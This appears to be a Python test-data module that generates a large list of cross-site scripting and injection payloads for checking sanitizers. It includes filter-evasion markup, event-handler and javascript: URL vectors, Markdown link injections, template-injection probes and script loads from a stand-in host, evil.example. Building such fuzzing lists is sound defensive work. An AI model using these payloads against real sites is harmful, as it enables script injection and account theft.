"""Texts that try to become more than text: markup, scripts, links, Markdown, odd letters.

The ways in are those of the OWASP cheat sheet on filter evasion and of the HTML standard:
https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
"""

from __future__ import annotations

#: What would run: `window.ran` is how a page tells that something did.
RUN = "window.ran=1"

#: Ways to leave whatever the text stands in.
_OUT = ("", '">', "'>", "-->", "</textarea></title></style>", "]]></bdi></td></tr></table>")

_MARKUP = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "<script src=https://evil.example/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src/onerror={RUN}>",
    f'<img src="x` `<script>{RUN}</script>"` `>',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>',
    f"<math><mtext><table><mglyph><style><img src onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src onerror={RUN}>",
    f'<iframe src="javascript:{RUN}"></iframe>',
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="javascript:{RUN}">',
    f'<a href="javascript:{RUN}">x</a>',
    f'<a href="java&#x0A;script:{RUN}">x</a>',
    f'<form action="javascript:{RUN}"><button>x</button></form>',
    f"<button formaction=javascript:{RUN}>x</button>",
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css';</style>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<marquee onstart={RUN}>",
    f"<div style='animation-name:x' onanimationstart={RUN}>",
)

_ATTRIBUTES = tuple(
    f"{quote}{space}{handler}={RUN}{space}x={quote}"
    for quote in ('"', "'", "`", "")
    for space in (" ", "/", "\t")
    for handler in ("onmouseover", "onfocus autofocus ontoggle")
)

_ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript://evil.example/%0a{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:image/svg+xml,<svg onload=1>",
    "//evil.example/",
    "https://evil.example/\" onclick='window.ran=1",
)

_MARKDOWN = (
    *(f"[x]({address})" for address in _ADDRESSES),
    *(f"![x]({address})" for address in _ADDRESSES),
    *(f"<{address}>" for address in _ADDRESSES),
    f"[x]: javascript:{RUN}\n[x]",
    f"[x](https://ok.example 'onclick={RUN}')",
    f"```\n<script>{RUN}</script>\n```",
    f"`<script>{RUN}</script>",
    f"# <img src=x onerror={RUN}>",
    f"| a |\n| --- |\n| <img src=x onerror={RUN}> |",
    f"- [ ] <script>{RUN}</script>",
    f"> <script>{RUN}</script>",
    f"{{color:red}}<script>{RUN}</script>{{color}}",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.ran=1&#62;",
    "\u202e<script>window.ran=1</script>\u202c",
    "\ufeff<script>window.ran=1</script>",
    "＜script＞window.ran=1＜/script＞",
    "%3Cscript%3Ewindow.ran=1%3C/script%3E",
    "<\x0bscript>window.ran=1</script>",
    "A" * 3000,
    "z\u0335" * 200,
)

PAYLOADS = tuple(
    dict.fromkeys(
        (
            *(out + markup for out in _OUT for markup in _MARKUP),
            *_ATTRIBUTES,
            *_ADDRESSES,
            *_MARKDOWN,
        )
    )
)
assert len(PAYLOADS) >= 200
